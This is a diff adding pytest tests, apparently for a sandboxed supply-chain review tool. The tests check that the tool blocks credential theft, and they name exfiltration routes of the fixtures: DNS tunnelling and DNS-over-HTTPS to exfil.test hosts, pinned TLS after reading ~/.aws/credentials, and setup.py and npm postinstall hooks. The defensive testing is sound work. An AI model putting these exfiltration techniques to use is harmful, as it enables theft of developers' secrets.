+    ids = [item["id"] for item in finding["evidence"]]
+    assert any(i.startswith("install:egress:") for i in ids), ids
+    assert any(i.startswith("base:egress:") for i in ids), ids
+    base = review.report("base")
+    assert base["status"] == "ok", base
+    assert base["isolation"] == "full"
+    assert_whole(review)
+
+
+def test_a_theft_hidden_in_the_bases_noise_blocks(reviews: Reviews) -> None:
+    review = reviews.get("base-noise")
+    assert review.code == 1, str(review)
+    assert review.verdict["state"] == "blocked", str(review)
+    assert critical_rules(review) == {"decoy-egress"}, review.verdict["findings"]
+    (hit,) = findings(review, "decoy-egress")
+    assert "data.example.test" in hit["title"]
+    assert any(item.get("decoy_seen") == ["AWS_SECRET_ACCESS_KEY"] for item in hit["evidence"])
+    assert_whole(review)
+
+
+def test_a_suite_that_fails_at_base_too_is_not_held_against_the_change(reviews: Reviews) -> None:
+    review = reviews.get("fails-at-base-too")
+    assert review.code == 0, str(review)
+    assert review.verdict["state"] == "clean", str(review)
+    (finding,) = review.verdict["findings"]
+    assert (finding["rule"], finding["severity"]) == ("tests-fail", "info")
+    assert finding["title"].startswith("the suite fails at base too: ")
+    assert review.report("base")["status"] == "failed"
+    assert_whole(review)
+
+
+# --------------------------------------------------------------------------- item 3
+
+
+def test_lookups_around_the_resolver_are_seen_and_block(reviews: Reviews) -> None:
+    review = reviews.get("dns-routes")
+    assert review.code == 1, str(review)
+    assert review.verdict["state"] == "blocked", str(review)
+    (command,) = review.report("install")["commands"]
+    assert "looked up" in command["stdout_tail"], command
+    egress = review.report("install")["egress"]
+    # DNS over TCP to a server of its own reached the logging resolver all the same.
+    (tcp,) = [e for e in egress if e["host"].endswith(".tcp.exfil.test")]
+    assert (tcp["route"], tcp["decoy_seen"], tcp["decoy_where"]) == (
+        "dns",
+        ["AWS_SECRET_ACCESS_KEY"],
+        ["dns:hex"],
+    )
+    # DNS-over-HTTPS is named as such, with the name it asked for searched.
+    (doh,) = [e for e in egress if e["host"] == "dns.google"]
+    assert doh["dns_name"].endswith(".doh.exfil.test"), doh
+    assert doh["decoy_seen"] == ["AWS_SECRET_ACCESS_KEY"]
+    assert "doh:hex" in doh["decoy_where"]
+    (google,) = [f for f in review.verdict["findings"] if "dns.google" in f["title"]]
+    assert google["severity"] == "critical"
+    assert "dns-over-https" in google["rules"], google
+    assert_whole(review)
+
+
+def test_a_suite_that_resolves_names_the_ordinary_ways_stays_clean(reviews: Reviews) -> None:
+    review = reviews.get("dns-tests")
+    assert review.code == 0, str(review)
+    assert review.verdict["state"] == "clean", str(review)
+    assert {f["rule"] for f in review.verdict["findings"]} == {"runtime-egress"}
+    egress = review.report("tests")["egress"]
+    names = {e["host"] for e in egress if e["route"] == "dns"}
+    assert {"docs.example.test", "example.test"} <= names, egress
+    (doh,) = [e for e in egress if e["host"] == "dns.google"]
+    assert doh["dns_name"] == "example.test"
+    assert_whole(review)
+
+
+# --------------------------------------------------------------------------- item 5
+
+
+def test_a_decoy_read_then_a_channel_the_proxy_cannot_read_blocks(reviews: Reviews) -> None:
+    review = reviews.get("pinned-after-read")
+    (command,) = review.report("tests")["commands"]
+    assert "pinned: SSLCertVerificationError" in command["stdout_tail"], command
+    assert_blocked(review, "decoy-then-opaque-channel")
+    (hit,) = findings(review, "decoy-then-opaque-channel")
+    assert hit["check"] == "tests"
+    assert (
+        "read decoy ~/.aws/credentials, then opened a channel to collector.exfil.test:443"
+        in (hit["title"])
+    )
+    read, channel = (
+        next(e for e in hit["evidence"] if e["id"].startswith("tests:decoy:")),
+        next(e for e in hit["evidence"] if e["id"].startswith("tests:egress:")),
+    )
+    # Both named the same process, as the kernel showed it, with its parents.
+    assert read["pid"] == channel["pid"], (read, channel)
+    assert channel["exe"].split("/")[-1].startswith("python"), channel
+    assert channel["cmdline"].startswith("python -"), channel
+    assert channel["parents"], channel
+    assert channel["parents"][0].split(" ", 1)[1].endswith("bash")
+    assert (channel["method"], channel["action"]) == ("CONNECT", "refused")
+    assert read["ts"] <= channel["ts"]
+    assert_whole(review)
+
+
+def test_pinned_tls_without_a_decoy_read_is_only_egress(reviews: Reviews) -> None:
+    review = reviews.get("pinned-only")
+    assert review.code == 0, str(review)
+    assert review.verdict["state"] == "clean", str(review)
+    assert {f["rule"] for f in review.verdict["findings"]} == {"runtime-egress"}
+    (channel,) = [e for e in review.report("tests")["egress"] if e["method"] == "CONNECT"]
+    assert channel["pid"] is not None  # named all the same
+    assert_whole(review)
+
+
+# --------------------------------------------------------------------------- item 7
+
+
+def _theft(review: Review, host: str) -> list[dict[str, Any]]:
+    (hit,) = [f for f in review.verdict["findings"] if host in f["title"]]
+    return [e for e in hit["evidence"] if e.get("decoy_seen")]
+
+
+def test_a_setup_py_theft_names_the_process_and_the_build_that_ran_it(reviews: Reviews) -> None:
+    review = reviews.get("setup-py-theft")
+    assert review.code == 1, str(review)
+    items = _theft(review, "collector.exfil.test")
+    assert items, review.verdict["findings"]
+    for item in items:
+        assert item["exe"].split("/")[-1].startswith("python"), item
+        assert item["cmdline"], item
+        # pip ran setup.py through its build hooks, in the project's folder.
+        assert item["origin"].startswith("the build of "), item
+        assert "(setup.py or its build backend)" in item["origin"], item
+    # The raw evidence in the bundle names the process too.
+    lines = [
+        json.loads(x)
+        for x in (review.bundle / "evidence" / "egress.jsonl").read_text().splitlines()
+    ]
+    stolen = [r for r in lines if r.get("decoy_seen")]
+    assert stolen
+    assert all(r["process"]["origin"].startswith("the build of ") for r in stolen)
+
+
+def test_an_npm_postinstall_theft_names_the_script_that_ran_it(reviews: Reviews) -> None:
+    review = reviews.get("npm-postinstall-theft")
+    assert review.code == 1, str(review)
+    items = _theft(review, "collector.exfil.test")
+    assert items, review.verdict["findings"]
+    for item in items:
+        assert item["exe"].endswith("node"), item
+        assert item["cmdline"] == "node x.js", item
+        assert item["origin"] == "the npm postinstall script of left-pad-ng", item
+        assert item["route"] == "direct"  # node ignored the proxy: caught all the same
